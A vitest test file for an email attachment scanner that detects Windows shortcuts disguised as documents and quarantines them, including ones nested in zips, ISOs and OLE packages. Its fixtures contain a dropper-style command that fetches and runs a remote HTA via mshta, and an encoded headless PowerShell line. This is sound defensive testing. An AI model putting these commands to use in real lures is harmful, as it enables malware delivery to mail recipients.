import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as o from '../../../../test-fixtures/attachments/office-payloads.mjs';
import { ensureDebianPackages } from '../../../test/support/debian.js';
import { attachmentMail, shippedPolicyVerdicts } from '../shipped-verdict.js';
import { makeLnk } from './chain-fixtures.js';
import { readShellLink } from './shell-links.js';
import { fakeClamd, packWithTool, walkFile } from './test-helpers.js';

/**
 * Windows shortcuts (.lnk) known by their header under any name, and what they run read from
 * LinkInfo, the string data and the environment block (shell-links.ts): in the finding's detail
 * and tags, at top level and inside zips, disk images and OLE packages; one that starts a command
 * interpreter holds the message (policy rule shortcut-runs-command).
 */

/** A dropper as Explorer saves it: LinkInfo's local path to cmd.exe, the environment block, a script in the arguments. */
const CMD_LNK = makeLnk({
  localPath: 'C:\\Windows\\System32\\cmd.exe',
  envTarget: '%windir%\\system32\\cmd.exe',
  relativePath: '..\\..\\..\\Windows\\System32\\cmd.exe',
  args: `/c ${' '.repeat(180)}start /min mshta http://198.51.100.7/cong-van.hta`,
});
/** An ordinary shortcut to a program under Program Files, opening a document. */
const WORD_LNK = makeLnk({
  localPath: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  relativePath: '..\\..\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  args: '"D:\\Van ban\\bao-cao.docx"',
  icon: '',
});

let dir: string;
beforeAll(() => {
  ensureDebianPackages([
    { pkg: 'liblnk-utils', file: '/usr/bin/lnkinfo' },
    { pkg: 'zip', file: '/usr/bin/zip' },
    { pkg: 'genisoimage', file: '/usr/bin/genisoimage' },
  ]);
  dir = mkdtempSync(path.join(tmpdir(), 'lachan-lnk-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));


describe('reading what a shortcut runs', () => {
  it('the builder writes what liblnk\u2019s lnkinfo reads: local path, arguments, environment target', () => {
    writeFileSync(path.join(dir, 'cmd.lnk'), CMD_LNK);
    const out = spawnSync('lnkinfo', [path.join(dir, 'cmd.lnk')], { encoding: 'utf8', timeout: 60_000 }).stdout;
    expect(out).toMatch(/Local path\s*: C:\\Windows\\System32\\cmd\.exe/);
    expect(out).toMatch(/Environment variables location\s*: %windir%\\system32\\cmd\.exe/);
    expect(out).toMatch(/Command line arguments\s*: \/c +start \/min mshta/);
  });

  it('takes LinkInfo\u2019s path as the target, collapses the padded arguments and names the programs and the address', () => {
    expect(readShellLink(CMD_LNK)).toEqual({
      target: 'C:\\Windows\\System32\\cmd.exe',
      args: '/c start /min mshta http://198.51.100.7/cong-van.hta',
      runs: ['cmd', 'mshta'],
      urls: ['http://198.51.100.7/cong-van.hta'],
      unc: false,
    });
  });

  it('a shortcut with only the environment block still says cmd.exe', () => {
    const link = readShellLink(makeLnk({ envTarget: '%COMSPEC%', relativePath: '', args: '/c conhost --headless powershell -enc SQBFAFgA' }));
    expect(link?.target).toBe('%COMSPEC%');
    expect(link?.runs).toEqual(['conhost', 'powershell']);
  });

  it('a shortcut to Word opening a document runs nothing of the kind', () => {
    expect(readShellLink(WORD_LNK)).toMatchObject({ target: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', runs: [], urls: [] });
  });

  it('is not a shortcut without the LinkCLSID, and a truncated one gives what was read', () => {
    const other = Buffer.from(CMD_LNK);
    other[19] = 0x47;
    expect(readShellLink(other)).toBeUndefined();
    expect(readShellLink(CMD_LNK.subarray(0, 120))).toMatchObject({ runs: [] });
  });
});

describe('a shortcut under any name, anywhere', () => {
  const dangerous = async (name: string, data: Buffer) => (await walkFile(name, data)).filter((f) => f.kind === 'attachment.dangerous-type' || f.kind === 'attachment.type-mismatch');

  it.each(['CongVan.pdf', 'invoice', 'Hoa don.lnk'])('%s: a shortcut that runs cmd, its target and arguments in the detail', async (name) => {
    const [f] = (await dangerous(name, CMD_LNK)).filter((x) => x.kind === 'attachment.dangerous-type');
    // under a document's name it is also 'disguised' (checks.ts); the shortcut's own tags follow
    expect(f?.tags).toEqual(['lnk', ...(name.endsWith('.pdf') ? ['disguised'] : []), 'runs-command', 'runs-cmd', 'runs-mshta', 'web-address']);
    expect(f?.detail).toContain('the shortcut runs C:\\Windows\\System32\\cmd.exe /c start /min mshta http://198.51.100.7/cong-van.hta');
  });

  it('named .pdf it also disagrees with its name', async () => {
    expect((await dangerous('CongVan.pdf', CMD_LNK)).map((f) => f.kind)).toEqual(['attachment.dangerous-type', 'attachment.type-mismatch']);
  });

  it('inside a zip made by zip, and an ISO made by genisoimage, renamed as a document', async () => {
    const zip = packWithTool({ 'CongVan.pdf': CMD_LNK }, 'zip', ['-q', 'out.bin', 'CongVan.pdf']);
    const iso = packWithTool({ 'CongVan.pdf': CMD_LNK }, 'genisoimage', ['-quiet', '-J', '-R', '-o', 'out.bin', 'CongVan.pdf']);
    for (const [name, data, inner] of [['cong-van.zip', zip, 'cong-van.zip → CongVan.pdf'], ['cong-van.iso', iso, 'cong-van.iso → CongVan.pdf']] as const) {
      const f = (await walkFile(name, data)).find((x) => x.kind === 'attachment.dangerous-type' && x.subject === inner);
      expect(f?.tags, name).toContain('runs-command');
    }
  });

  it('packaged in an .xls (OLE Package object)', async () => {
    const xls = o.makeCompoundFile({
      '/Workbook': Buffer.alloc(600, 0),
      '/MBD00A1B2C3/\u0001Ole10Native': o.ole10NativeStream('Bang-ke.pdf', CMD_LNK),
      '/MBD00A1B2C3/\u0001CompObj': o.compObj('OLE Package', 'Package'),
    });
    const f = (await walkFile('bang-ke.xls', xls)).find((x) => x.kind === 'attachment.dangerous-type');
    expect(f?.subject).toBe('bang-ke.xls → MBD00A1B2C3 → Bang-ke.pdf');
    expect(f?.tags).toContain('runs-cmd');
  });

  it('a shortcut to Word is a dangerous type without the command tags', async () => {
    const [f] = await dangerous('bao-cao.lnk', WORD_LNK);
    expect(f?.tags).toEqual(['lnk']);
    expect(f?.detail).toContain('the shortcut runs C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE "D:\\Van ban\\bao-cao.docx"');
  });
});

describe('the shipped policy', () => {
  const verdict = shippedPolicyVerdicts({ clamd: fakeClamd() });
  it('holds a mail whose "CongVan.pdf" is a shortcut running cmd', async () => {
    const v = await verdict(attachmentMail('CongVan.pdf', 'application/pdf', CMD_LNK, { text: 'Kính gửi anh chị công văn số 125.' }));
    expect(v.action).toBe('quarantine');
    expect(v.rules).toContain('shortcut-runs-command');
  });
  it('only strips a shortcut to Word, as any shortcut', async () => {
    const v = await verdict(attachmentMail('bao-cao.lnk', 'application/octet-stream', WORD_LNK, { text: 'Kính gửi anh chị báo cáo.' }));
    expect(v.rules).not.toContain('shortcut-runs-command');
    expect(v.strip.length).toBe(1);
  });
});
